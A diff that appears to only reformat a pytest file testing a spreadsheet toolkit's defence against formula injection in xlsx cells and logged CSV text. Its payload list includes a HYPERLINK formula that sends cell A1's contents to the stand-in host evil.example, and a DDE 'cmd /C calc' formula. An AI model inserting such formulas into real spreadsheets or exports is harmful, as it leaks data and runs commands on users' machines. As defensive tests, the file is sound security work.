@@ -22,7 +22,7 @@ from toolkit.xlsx import update_cells
 NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 PAYLOADS = [
     "=1+1",
-    "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点我\")",
+    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
     "=cmd|' /C calc'!A0",
     "+SUM(1,2)",
     "-2+3",
@@ -31,7 +31,7 @@ PAYLOADS = [
     "\r=1+1",
     "\r\n=1+1",
     "=1+1\n=2+2",
-    "＝1+1",           # full-width equals sign: text in Excel anyway
+    "＝1+1",  # full-width equals sign: text in Excel anyway
     " =1+1",
     "=",
     "+",
@@ -66,19 +66,31 @@ def test_formula_like_text_is_written_as_text(tmp_path):
         assert cell.data_type == "s" and isinstance(cell.value, str), (v, cell.data_type)
 
 
-@pytest.mark.parametrize("value, logged", [
-    ("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
-    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("已关闭", "已关闭"), ("a=1", "a=1"),
-    (-3.5, "-3.5"), (-7, "-7"), (Decimal("-0.25"), "-0.25"),   # numbers are numbers, never formulas
-    (dt.datetime(2026, 11, 20, 9, 5), "2026-11-20 09:05:00"), (None, ""),
-])
+@pytest.mark.parametrize(
+    "value, logged",
+    [
+        ("=1+1", "'=1+1"),
+        ("+86 138", "'+86 138"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("已关闭", "已关闭"),
+        ("a=1", "a=1"),
+        (-3.5, "-3.5"),
+        (-7, "-7"),
+        (Decimal("-0.25"), "-0.25"),  # numbers are numbers, never formulas
+        (dt.datetime(2026, 11, 20, 9, 5), "2026-11-20 09:05:00"),
+        (None, ""),
+    ],
+)
 def test_change_log_cells_stay_text(value, logged):
     assert safe_csv_text(value) == logged
 
 
 def test_sync_copies_formula_like_names_as_text_and_logs_them_quoted(tmp_path):
     rows = [list(r) for r in REGISTER_ROWS]
-    rows[0][1] = "=HYPERLINK(\"http://evil.example\",\"点我\")"
+    rows[0][1] = '=HYPERLINK("http://evil.example","点我")'
     rows[1][1] = "@SUM(1+1)"
     rows[2][2] = "+8613800000000"
     rows[3][4] = "\t=2+2"
@@ -109,8 +121,9 @@ def test_libreoffice_shows_the_text_not_a_result(tmp_path, soffice):
     path = folder / "complaints.xlsx"
     payloads = ["=1+1", "+2+2", "-3+3", "@SUM(4,4)"]
     update_cells(path, "投诉跟踪", {f"F{k + 2}": v for k, v in enumerate(payloads)})
-    out = soffice([path], "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
-                  tmp_path / "csv")
+    out = soffice(
+        [path], "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", tmp_path / "csv"
+    )
     text = "\n".join(p.read_text(encoding="utf-8", errors="replace") for p in out if p.suffix == ".csv")
     for v in payloads:
         assert v in text
